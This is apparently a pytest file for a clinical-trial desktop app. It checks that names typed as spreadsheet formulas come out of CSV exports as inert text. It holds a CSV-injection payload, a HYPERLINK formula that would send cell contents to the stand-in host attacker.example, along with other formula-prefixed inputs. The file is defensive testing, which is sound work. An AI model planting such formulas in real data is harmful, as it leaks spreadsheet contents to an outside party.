"""Attack 8 of issue #18, the CSV half: a name typed as a spreadsheet formula reaches the
statistician's export as text, never as a formula (OWASP "CSV injection"); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from hai_desktop.core.spreadsheet import inert_cell
from hai_desktop.services.demo import DEMO_ACCOUNTS
from hai_desktop.services.export import csv_bytes, trial_tables
from hai_desktop.services.screening import Registration, register_candidate
from hai_desktop.services.workspace import Workspace, sign_in
from hai_desktop.settings import Settings

PASSWORDS = {a.username: a.password for a in DEMO_ACCOUNTS}
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


@pytest.fixture
def coordinator(demo_db: Path, settings: Settings) -> Iterator[Workspace]:
    ws = sign_in(demo_db, "coordinator", PASSWORDS["coordinator"], settings)
    yield ws
    ws.sign_out()


def test_a_formula_typed_as_a_name_is_text_in_the_identified_export(
        coordinator: Workspace, demo_db: Path, settings: Settings) -> None:
    register_candidate(coordinator, Registration(
        family_name=FORMULA, given_name="@SUM(1+1)", hospital_record_number="TR-0000666",
        sex="F", date_of_birth=date(1960, 1, 2), consent_date=date(2026, 11, 30),
        initials="XX", latin_family_name="PARK", latin_given_name="Mina"))
    admin = sign_in(demo_db, "admin", PASSWORDS["admin"], settings)
    try:
        tables = {t.file_name: t for t in trial_tables(admin, identified=True)}
    finally:
        admin.sign_out()
    rows = list(csv.DictReader(io.StringIO(csv_bytes(tables["screening.csv"]).decode())))
    ours = next(r for r in rows if r["hospital_record_number"] == "TR-0000666")
    assert ours["family_name"] == "'" + FORMULA
    assert ours["given_name"] == "'@SUM(1+1)"
    # What a spreadsheet would run: no cell of any file starts a formula.
    for table in tables.values():
        for row in csv.reader(io.StringIO(csv_bytes(table).decode())):
            assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in row), \
                (table.file_name, row)


@pytest.mark.parametrize(("typed", "written"), [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@A1", "'@A1"),
    ("\tTAB", "'\tTAB"), ("\r=1", "'\r=1"),
    ("-1", "-1"), ("+2.5", "+2.5"), ("-0.75e3", "-0.75e3"), ("김지원", "김지원"), ("", ""),
    ("a=1", "a=1"),
])
def test_inert_cell(typed: str, written: str) -> None:
    assert inert_cell(typed) == written
